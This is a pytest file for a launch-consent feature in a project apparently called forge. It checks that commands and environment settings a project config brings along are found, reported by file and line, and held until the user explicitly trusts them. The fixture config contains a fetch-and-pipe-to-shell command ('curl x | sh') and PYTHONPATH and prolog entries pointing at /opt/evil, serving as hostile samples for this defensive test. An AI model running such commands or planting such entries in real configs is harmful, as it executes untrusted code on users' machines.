from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

import forge
from forge.base.errors import TrustError
from forge.launch.consent import LaunchWord, launch_words, require_launch_trust, trust_launch

if TYPE_CHECKING:
    from pathlib import Path

    from forge.graph.node import Node

CONFIG = """\
defaults: [{launch: slurm}, _self_]
meta: {description: It brings what it is started with.}
launch:
  setup: [module load cuda, "curl x | sh"]
  env: {NCCL_DEBUG: WARN, PYTHONPATH: /opt/evil}
  sbatch: {task-prolog: /opt/evil/run}
trainer: {_target_: builtins.dict}
"""


@pytest.fixture
def brought(project: Path, environment: dict[str, str]) -> Path:
    """A project whose config says what it is started with."""
    assert environment
    (project / "configs" / "brought.yaml").write_text(CONFIG)
    return project


def root(project: Path, *changes: str) -> Node:
    return forge.open(project).config("brought", *changes).graph.root


def test_what_runs_is_found_with_its_place(brought: Path) -> None:
    found = launch_words(root(brought))
    assert [(word.key, word.text) for word in found] == [
        ("launch.setup", "module load cuda"),
        ("launch.setup", "curl x | sh"),
        ("launch.sbatch.task-prolog", "/opt/evil/run"),
        ("launch.env.PYTHONPATH", "/opt/evil"),
    ]
    assert str(found[1]).endswith("configs/brought.yaml:4: launch.setup: curl x | sh")
    assert launch_words(forge.open("pydoc").config("pretrain/tiny", "launch=slurm").graph.root) == []
    assert str(LaunchWord("launch.python", "x", None)) == "launch.python: x"


def test_what_is_typed_is_the_users_own_word(brought: Path) -> None:
    typed = ("launch.setup=[ls]", "launch.env={PYTHONPATH: /mine}", "~launch.sbatch", "launch.python=/opt/python")
    assert [word.key for word in launch_words(root(brought, *typed))] == []


def test_it_is_asked_for_once_and_again_when_it_changes(brought: Path) -> None:
    folder = str(brought)
    with pytest.raises(TrustError, match=r"(?s)brought\.yaml:4: launch\.setup: curl x \| sh.*then run: forge trust it"):
        require_launch_trust(root(brought), folder, "forge trust it")
    assert len(trust_launch(root(brought), folder)) == 4
    require_launch_trust(root(brought), folder, "")
    require_launch_trust(root(brought, "launch.setup=[]"), folder, "")
    for line in ("  setup: [module load cuda]\n", '  setup: ["curl x | sh", module load cuda]\n'):
        path = brought / "configs" / "brought.yaml"
        path.write_text(CONFIG.replace(CONFIG.splitlines(keepends=True)[3], line))
        with pytest.raises(TrustError):
            require_launch_trust(root(brought), folder, "")


def test_trust_is_taken_back(brought: Path) -> None:
    trust_launch(root(brought), str(brought))
    forge.open(brought).distrust()
    with pytest.raises(TrustError):
        require_launch_trust(root(brought), str(brought), "")
